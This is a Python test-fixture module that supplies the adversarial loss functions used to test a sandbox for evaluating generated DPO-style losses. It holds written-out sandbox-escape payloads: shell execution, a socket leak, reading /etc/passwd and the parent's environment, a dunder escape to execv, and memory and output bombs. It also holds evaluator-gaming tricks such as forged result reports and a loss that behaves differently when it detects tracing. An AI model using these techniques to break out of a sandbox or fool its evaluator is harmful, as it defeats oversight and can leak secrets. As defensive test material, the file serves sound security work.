"""Loss sources and attacks shared by the sandbox tests (the one place test inputs are made).

Honest losses come from evaluator.baselines.BASELINES; this module adds the losses the sandbox
must reject for behaviour, and the adversarial candidates of test_attacks.py, each with the
stage and code expected with the static layer off and with every layer on.
"""

from __future__ import annotations

import functools
import json
import warnings
from dataclasses import dataclass

from sandbox import RejectionCode, Stage
from sandbox.config import GraphLimits

C = RejectionCode

PARAMS = "policy_chosen_logps, policy_rejected_logps, ref_chosen_logps, ref_rejected_logps, beta"
DELTA = "((policy_chosen_logps - ref_chosen_logps) - (policy_rejected_logps - ref_rejected_logps))"
DISCOPOP = ("lrml", "padll", "cell", "pfl", "aqfl", "dbaql", "aql")  # DESIGN.md section 8


def loss_source(*body: str, params: str = PARAMS) -> str:
    """A contract function with the given body lines (indented here)."""
    lines = "\n".join(f"    {line}" for line in body)
    return f"def loss({params}):\n{lines}\n"


DPO = loss_source(f"return -F.logsigmoid(beta * {DELTA})")
DPO_SPELLINGS = (
    DPO,
    loss_source(
        "z = (policy_chosen_logps - policy_rejected_logps) - (ref_chosen_logps - "
        "ref_rejected_logps)",
        "return F.softplus(-z * beta)",
    ),
    loss_source(f"z = beta * {DELTA}", "return torch.log1p(torch.exp(-z))"),
    loss_source(f"z = beta * {DELTA}", "return -torch.log(torch.sigmoid(z))"),
)
HINGE = loss_source(f"return torch.relu(1 - beta * {DELTA})")

# Behaviour the battery must reject, with the code it must give.
POSITION_DEPENDENT = loss_source(
    f"z = beta * {DELTA}",
    "position = torch.cumsum(torch.ones_like(z), 0)  # 1, 2, ..., B",
    "return -F.logsigmoid(z) * position",
)
IGNORES_POLICY = loss_source("return -F.logsigmoid(beta * (ref_chosen_logps - ref_rejected_logps))")
REWARDS_REJECTED = loss_source(f"return -F.logsigmoid(-beta * {DELTA})")
PFL_WITHOUT_BETA = loss_source(  # DiscoPOP's PFL as the LLM wrote it: beta unused
    f"logits = {DELTA}",
    "return torch.where(policy_chosen_logps > policy_rejected_logps, "
    "-F.logsigmoid(logits) / 2.0, torch.relu(1 - logits) * 2.0)",
)

MARKER = "/tmp/lossforge-sandbox-test-marker"  # attacks try to create it; it must never exist
SECRET = "sk-lossforge-test-4f1c9a7e"  # set in the parent's environment by conftest


@dataclass(frozen=True)
class Attack:
    name: str
    source: str
    off: tuple[Stage, RejectionCode]  # expected with the static layer switched off
    on: tuple[Stage, RejectionCode]  # expected with every layer on
    needs_short_timeout: bool = False
    degraded: bool = True  # also run against pools with one hardening step switched off


def _forged(mutation: str, honest: str) -> str:
    """Module-level code that writes a forged result to the result pipe and exits."""
    return (
        "import json, os\n"
        f"result = json.loads({honest!r})\n"
        f"{mutation}\n"
        "data = json.dumps(result).encode()\n"
        "while data:\n"
        "    data = data[os.write(3, data):]\n"
        "os._exit(0)\n\n" + DPO
    )


FORGED_REWARDING_REJECTED = (
    "import json, os\n"
    "from sandbox import graph_capture, probes\n"
    f"{REWARDS_REJECTED}"
    "names = " + repr(PARAMS.split(", ")) + "\n"
    "graph = graph_capture.capture_graph(loss, names)\n"
    "values = [[graph_capture.encode_float(v) for v in loss(**probes.select(b, names)).tolist()]"
    " for b in probes.value_probes()]\n"
    "data = json.dumps({'ok': True, 'inputs': names, 'graph': graph, 'values': values}).encode()\n"
    "while data:\n"
    "    data = data[os.write(3, data):]\n"
    "os._exit(0)\n"
)


@functools.cache
def honest_dpo_result() -> str:
    """The result message an honest child sends for DPO (computed in the test process)."""
    from sandbox import child
    from sandbox.protocol import Job

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # batch statistics at batch size 1 in the warm-up
        child.warm_up()
        result = child.run_job(Job(DPO, GraphLimits()))
    assert result["ok"], result
    return json.dumps(result)


def attacks(port: int, honest: str | None = None) -> list[Attack]:
    """Every adversarial candidate; `port` is a TCP listener in the test process.

    `honest` is an honest child's result for DPO, the raw material of the forged reports;
    pass any string when only the names are needed.
    """
    iso, bat, sta, gra = Stage.ISOLATION, Stage.BATTERY, Stage.STATIC, Stage.GRAPH
    forbidden, imp = (iso, C.FORBIDDEN_OPERATION), (sta, C.FORBIDDEN_IMPORT)
    honest = honest_dpo_result() if honest is None else honest
    return [
        Attack(
            "exec_program",
            loss_source(
                "import subprocess",
                f"subprocess.run(['/bin/sh', '-c', 'touch {MARKER}'])",
                f"return -F.logsigmoid(beta * {DELTA})",
            ),
            forbidden,
            imp,
        ),
        Attack(
            "execv",
            loss_source("import os", f"os.execv('/bin/sh', ['sh', '-c', 'touch {MARKER}'])"),
            forbidden,
            imp,
        ),
        Attack(
            "fork",
            loss_source(
                "import os",
                "pid = os.fork()",
                "if pid == 0:",
                "    os._exit(0)",
                f"return -F.logsigmoid(beta * {DELTA})",
            ),
            forbidden,
            imp,
        ),
        Attack(
            "socket",
            loss_source(
                "import socket",
                "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
                "s.settimeout(2)",
                f"s.connect(('127.0.0.1', {port}))",
                "s.sendall(b'leak')",
                f"return -F.logsigmoid(beta * {DELTA})",
            ),
            forbidden,
            imp,
        ),
        Attack(
            "read_passwd",
            loss_source("return open('/etc/passwd').read()"),
            forbidden,
            (sta, C.FORBIDDEN_ATTRIBUTE),
        ),
        Attack(
            "parent_environ_proc",
            loss_source("import os", "return open(f'/proc/{os.getppid()}/environ').read()"),
            forbidden,
            imp,
        ),
        Attack(
            "environment",
            loss_source("import os", "raise RuntimeError('ENV=' + repr(dict(os.environ)))"),
            (bat, C.EXCEPTION),
            imp,
        ),
        Attack(
            "write_file",
            loss_source(
                f"open('{MARKER}', 'w').write('pwned')", f"return -F.logsigmoid(beta * {DELTA})"
            ),
            forbidden,
            (sta, C.FORBIDDEN_ATTRIBUTE),
        ),
        Attack(
            "write_cwd",
            loss_source(
                "open('pwned.txt', 'w').write('pwned')", f"return -F.logsigmoid(beta * {DELTA})"
            ),
            forbidden,
            (sta, C.FORBIDDEN_ATTRIBUTE),
        ),
        Attack(
            "kill_zygote",
            loss_source(
                "import os, signal",
                "os.kill(os.getppid(), signal.SIGKILL)",
                f"return -F.logsigmoid(beta * {DELTA})",
            ),
            forbidden,
            imp,
        ),
        Attack(
            "infinite_loop",
            loss_source("while True:", "    pass"),
            (iso, C.TIMEOUT),
            (sta, C.FORBIDDEN_SYNTAX),
            needs_short_timeout=True,
            degraded=False,
        ),
        Attack(
            "sleep",
            loss_source("import time", "time.sleep(600)"),
            (iso, C.TIMEOUT),
            imp,
            needs_short_timeout=True,
            degraded=False,
        ),
        Attack(
            "tensor_memory_bomb",
            loss_source(
                "hog = torch.ones(2 ** 36)", f"return -F.logsigmoid(beta * {DELTA}) + hog[0]"
            ),
            (iso, C.MEMORY),
            (iso, C.MEMORY),
        ),
        Attack(
            "python_memory_bomb",
            loss_source("hog = bytearray(10 ** 11)", f"return -F.logsigmoid(beta * {DELTA})"),
            (iso, C.MEMORY),
            (sta, C.FORBIDDEN_NAME),
        ),
        Attack(
            "output_flood",
            loss_source("print('A' * 10 ** 7)", f"return -F.logsigmoid(beta * {DELTA})"),
            (iso, C.OUTPUT_FLOOD),
            (sta, C.FORBIDDEN_NAME),
        ),
        Attack(
            "monkeypatch_torch",
            loss_source("torch.sigmoid = lambda x: x * 0", f"return -F.logsigmoid(beta * {DELTA})"),
            (bat, C.MONKEYPATCH),
            (sta, C.MUTATION),
        ),
        Attack(
            "monkeypatch_at_definition",
            "F.logsigmoid = torch.sigmoid\n" + DPO,
            (bat, C.MONKEYPATCH),
            (sta, C.STRUCTURE),
        ),
        Attack(
            "default_dtype",
            loss_source(
                "torch.set_default_dtype(torch.float64)", f"return -F.logsigmoid(beta * {DELTA})"
            ),
            (bat, C.GLOBAL_STATE),
            (sta, C.FORBIDDEN_ATTRIBUTE),
        ),
        Attack(
            "global_seed",
            loss_source("torch.manual_seed(0)", f"return -F.logsigmoid(beta * {DELTA})"),
            (bat, C.GLOBAL_STATE),
            (sta, C.FORBIDDEN_ATTRIBUTE),
        ),
        Attack(
            "inplace_method",
            loss_source("policy_chosen_logps.mul_(2)", f"return -F.logsigmoid(beta * {DELTA})"),
            (bat, C.INPLACE_INPUT),
            (sta, C.MUTATION),
        ),
        Attack(
            "inplace_item",
            loss_source("policy_rejected_logps[0] = 0.0", f"return -F.logsigmoid(beta * {DELTA})"),
            (bat, C.INPLACE_INPUT),
            (sta, C.MUTATION),
        ),
        Attack(
            "inplace_augmented",
            loss_source("policy_chosen_logps += 1", f"return -F.logsigmoid(beta * {DELTA})"),
            (bat, C.INPLACE_INPUT),
            (sta, C.MUTATION),
        ),
        Attack(
            "forged_unknown_op",
            _forged("result['graph']['nodes'][-1]['target'] = 'os.system'", honest),
            (gra, C.UNKNOWN_OP),
            imp,
        ),
        Attack(
            "forged_mutable_op",
            _forged(
                "result['graph']['nodes'][-1] = {'op': 'call_method', 'target': 'add_', "
                "'args': [{'node': 9}, 1.0], 'kwargs': {}}",
                honest,
            ),
            (gra, C.MUTABLE_OP),
            imp,
        ),
        Attack(
            "forged_extra_outputs",
            _forged("result['graph']['output'] = {'tuple': [{'node': 10}, {'node': 9}]}", honest),
            (gra, C.BAD_OUTPUT),
            imp,
        ),
        Attack(
            "forged_huge_graph",
            _forged(
                "result['graph']['nodes'] += [{'op': 'call_function', 'target': 'operator.neg', "
                "'args': [{'node': 10}], 'kwargs': {}}] * 600",
                honest,
            ),
            (gra, C.GRAPH_TOO_LARGE),
            imp,
        ),
        Attack(
            "forged_values",
            _forged("result['values'][0][0] += 1.0", honest),
            (gra, C.VALUE_MISMATCH),
            imp,
        ),
        Attack(
            "result_flood",
            "import os\nchunk = b'x' * 65536\nwhile True:\n    os.write(3, chunk)\n" + DPO,
            (iso, C.OUTPUT_FLOOD),
            imp,
        ),
        Attack(
            "forged_garbage",
            "import os\nos.write(3, b'{not json')\nos._exit(0)\n" + DPO,
            (iso, C.BAD_REPORT),
            imp,
        ),
        Attack("forged_failing_graph", FORGED_REWARDING_REJECTED, (bat, C.REWARDS_REJECTED), imp),
        Attack(
            "trace_aware",
            loss_source(
                "if type(beta).__name__ == 'Proxy':",
                f"    return -F.logsigmoid(beta * 0.5 * {DELTA})",
                f"return -F.logsigmoid(beta * {DELTA})",
            ),
            (gra, C.VALUE_MISMATCH),
            (sta, C.FORBIDDEN_SYNTAX),
        ),
        Attack(
            "dunder_escape",
            loss_source(
                "subclasses = beta.__class__.__mro__[-1].__subclasses__()",
                "wrap = [c for c in subclasses if c.__name__ == '_wrap_close'][0]",
                f"wrap.__init__.__globals__['execv']('/bin/sh', ['sh', '-c', 'touch {MARKER}'])",
            ),
            forbidden,
            (sta, C.DUNDER),
        ),
        Attack(
            "format_string_escape",
            loss_source(
                "leak = '{0.__globals__[torch].os.environ}'.format(F.relu)",
                "raise RuntimeError('LEAK=' + leak)",
            ),
            (bat, C.EXCEPTION),
            (sta, C.FORBIDDEN_ATTRIBUTE),
        ),
        Attack(
            "x32_syscall",
            loss_source(
                # x32 fork: killed by seccomp (SIGSYS); refused without it (-1) -> PermissionError
                "import ctypes",
                "if ctypes.CDLL(None).syscall(0x40000000 | 57) != 0:",
                "    raise PermissionError('x32 fork refused')",
                f"return -F.logsigmoid(beta * {DELTA})",
            ),
            forbidden,
            imp,
            degraded=False,
        ),
        Attack(
            "forged_tensor_subclass",
            loss_source(
                "class Fake(torch.Tensor):",
                "    pass",
                f"return (-F.logsigmoid(beta * {DELTA})).as_subclass(Fake)",
            ),
            (bat, C.NOT_A_TENSOR),
            (sta, C.FORBIDDEN_SYNTAX),
        ),
    ]
